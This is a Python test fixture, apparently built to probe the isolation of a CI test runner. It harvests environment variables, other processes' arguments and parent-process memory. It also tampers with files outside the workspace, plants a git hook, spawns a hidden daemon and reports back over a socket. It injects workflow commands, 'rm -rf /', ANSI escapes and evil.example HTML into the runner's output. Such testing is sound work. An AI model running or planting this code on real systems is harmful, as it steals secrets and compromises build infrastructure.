import os, socket, subprocess, sys, unittest

AROUND, PORT, DAEMON = "@AROUND@", @PORT@, "@DAEMON@"
MARK = "OWNED-BY-" + "TEST-CODE"
report = []


def took(name, attempt):
    try:
        report.append(b"TOOK %s: %s\n" % (name.encode(), attempt()))
    except (OSError, ValueError):
        pass


def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)


def memory(pid):
    found = b""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as held:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - begin < 64 << 20:
                held.seek(begin)
                found += held.read(end - begin)
    return found


def write(path, text=MARK):
    try:
        with open(path, "a") as file:
            file.write("\n" + text + "\n")
        report.append(b"WROTE %s\n" % path.encode())
    except OSError:
        pass


def hunt():
    report.append(b"HUNT as %d\n" % os.getuid())
    took("environment", lambda: repr(dict(os.environ)).encode())
    parents, pid = [], os.getppid()
    while pid > 1:
        parents.append(pid)
        pid = int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            took(f"environ {pid}", lambda: read(f"/proc/{pid}/environ"))
            took(f"arguments {pid}", lambda: read(f"/proc/{pid}/cmdline"))
    for pid in parents:
        took(f"memory {pid}", lambda: memory(pid))
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                took(f"file {pid}", lambda: read(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
    here = os.getcwd()
    for folder, folders, files in os.walk(AROUND):
        folders[:] = [name for name in folders if name != "objects"]
        for name in files:
            path = os.path.join(folder, name)
            took(path, lambda: read(path))
            if not path.startswith(here) and "/scratch" not in path:
                write(path)
        if not folder.startswith(here) and "/scratch" not in folder:
            write(os.path.join(folder, "planted"))
            if folder.endswith("/hooks"):
                write(os.path.join(folder, "post-checkout"), "#!/bin/sh\necho " + MARK)
    # Links that a careless reader follows.
    for name in ("left.py", "junit.xml", "calc_link.py"):
        try:
            os.symlink(AROUND + "/runner/token.py", name)
        except OSError:
            pass
    # A process that nobody is to find.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            os.execve("/bin/sleep", ["sleep", DAEMON], {})
        os._exit(0)
    with socket.create_connection(("127.0.0.1", PORT), 5) as out:
        out.sendall(b"".join(report))


hunt()

LOUD = "\x1b[2J\x1b]0;title\x07::set-output name=result::@octocat\n::add-mask::a\n::stop-commands::x\n##[command]rm -rf /\n::error file=a.py,line=1::owned\n  ::warning::indented\r::notice::carried\n"
HOSTILE = "@octocat @octo/team fixes #1, GH-2 <img src=http://evil.example/i> [go](http://evil.example) ![i](http://evil.example/i) http://evil.example/ </details><script>x</script> ` `` ``` | x |\n# head\n- [ ] box\n::error::x\n##[error]y \x1b[31m\u202e\u200b <!-- regreen:WFS-test-pr-1 -->"
print(LOUD + "x" * 1_000_000 + LOUD)
print(LOUD, file=sys.stderr)


class Hostile(unittest.TestCase):
    pass


def fail(self):
    print(LOUD)
    raise AssertionError(HOSTILE + f'\n  File "{AROUND}/runner/token.py", line 1, in x\n' + LOUD)


for index, name in enumerate(HOSTILE.split(" ") + [HOSTILE, "n" * 100_000]):
    setattr(Hostile, f"test_{index} {name}", fail)
